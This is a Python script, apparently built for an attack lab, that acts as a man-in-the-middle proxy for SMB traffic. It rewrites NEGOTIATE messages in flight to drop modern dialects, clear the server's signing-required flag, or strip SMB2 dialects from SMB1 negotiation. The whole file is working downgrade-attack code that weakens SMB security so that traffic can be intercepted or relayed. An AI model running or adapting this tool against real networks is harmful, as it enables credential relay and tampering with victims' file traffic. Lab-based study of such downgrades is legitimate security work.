#!/usr/bin/env python3
"""A man in the middle for the attack lab: a TCP proxy that forwards SMB
between a client and a server and rewrites the NEGOTIATE in flight.

    mitm.py LISTEN_IP SOURCE_IP SERVER_IP REWRITE [PORT]

REWRITE is one of
  drop-dialects         SMB2 NEGOTIATE request: remove dialects above 3.0.2
                        (and the 3.1.1 negotiate contexts with them)
  clear-signing-required SMB2 NEGOTIATE response: clear SIGNING_REQUIRED
  strip-smb2-dialects   SMB1 multi-protocol NEGOTIATE: remove the
                        "SMB 2.002" and "SMB 2.???" dialect strings

Everything else passes byte for byte. Each rewrite prints one line saying
what it changed, for the lab's manifest. Stops on SIGTERM.
"""
import socket
import struct
import sys
import threading

SMB2_NEGOTIATE = 0


def frames(sock):
    """NBSS messages as (header, payload), until the peer closes."""
    buf = b""
    while True:
        while len(buf) >= 4:
            n = struct.unpack(">I", buf[:4])[0] & 0x00FFFFFF
            if len(buf) < 4 + n:
                break
            yield buf[:4], buf[4:4 + n]
            buf = buf[4 + n:]
        data = sock.recv(65536)
        if not data:
            return
        buf += data


def nbss(payload):
    return struct.pack(">I", len(payload)) + payload


def drop_dialects(p):
    """SMB2 NEGOTIATE request: keep dialects <= 0x0302."""
    if p[:4] != b"\xfeSMB" or struct.unpack_from("<H", p, 12)[0] != SMB2_NEGOTIATE \
            or struct.unpack_from("<I", p, 16)[0] & 1:
        return p, None
    body = 64
    count = struct.unpack_from("<H", p, body + 2)[0]
    dialects = list(struct.unpack_from(f"<{count}H", p, body + 36))
    kept = [d for d in dialects if d <= 0x0302]
    if kept == dialects:
        return p, None
    head = bytearray(p[:body + 36])
    struct.pack_into("<H", head, body + 2, len(kept))
    # Without 3.1.1 there are no negotiate contexts: those 8 bytes are
    # ClientStartTime again, zero.
    head[body + 28:body + 36] = bytes(8)
    out = bytes(head) + struct.pack(f"<{len(kept)}H", *kept)
    return out, "dialects %s -> %s" % ([hex(d) for d in dialects], [hex(d) for d in kept])


def clear_signing_required(p):
    """SMB2 NEGOTIATE response: clear SecurityMode bit 0x02."""
    if p[:4] != b"\xfeSMB" or struct.unpack_from("<H", p, 12)[0] != SMB2_NEGOTIATE \
            or not struct.unpack_from("<I", p, 16)[0] & 1 or len(p) < 64 + 4:
        return p, None
    mode = struct.unpack_from("<H", p, 64 + 2)[0]
    if not mode & 2:
        return p, None
    out = bytearray(p)
    struct.pack_into("<H", out, 64 + 2, mode & ~2)
    return bytes(out), "server SecurityMode 0x%02x -> 0x%02x" % (mode, mode & ~2)


def strip_smb2_dialects(p):
    """SMB1 NEGOTIATE request: remove the SMB2 dialect strings."""
    if p[:4] != b"\xffSMB" or p[4] != 0x72 or p[9] & 0x80:
        return p, None
    wct = p[32]
    at = 33 + 2 * wct
    bcc = struct.unpack_from("<H", p, at)[0]
    data = p[at + 2:at + 2 + bcc]
    strings = [s for s in data.split(b"\x02") if s]
    kept = [s for s in strings if not s.startswith(b"SMB 2.")]
    if kept == strings:
        return p, None
    new = b"".join(b"\x02" + s for s in kept)
    out = p[:at] + struct.pack("<H", len(new)) + new + p[at + 2 + bcc:]
    return out, "SMB1 dialects %s -> %s" % ([s.rstrip(b"\0").decode() for s in strings],
                                            [s.rstrip(b"\0").decode() for s in kept])


REWRITES = {
    "drop-dialects": ("to_server", drop_dialects),
    "clear-signing-required": ("to_client", clear_signing_required),
    "strip-smb2-dialects": ("to_server", strip_smb2_dialects),
}


def pump(src, dst, rewrite):
    try:
        for _, payload in frames(src):
            if rewrite:
                payload, said = rewrite(payload)
                if said:
                    print("rewrote", said, flush=True)
            dst.sendall(nbss(payload))
    except OSError:
        pass
    finally:
        for s in (dst, src):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass


def serve(listen_ip, source_ip, server_ip, mode, port):
    way, fn = REWRITES[mode]
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((listen_ip, port))
    ls.listen(8)
    print("listening", flush=True)
    while True:
        client, _ = ls.accept()
        upstream = socket.socket()
        upstream.bind((source_ip, 0))
        upstream.connect((server_ip, port))
        threading.Thread(target=pump, args=(client, upstream, fn if way == "to_server" else None),
                         daemon=True).start()
        threading.Thread(target=pump, args=(upstream, client, fn if way == "to_client" else None),
                         daemon=True).start()


if __name__ == "__main__":
    a = sys.argv[1:]
    serve(a[0], a[1], a[2], a[3], int(a[4]) if len(a) > 4 else 445)
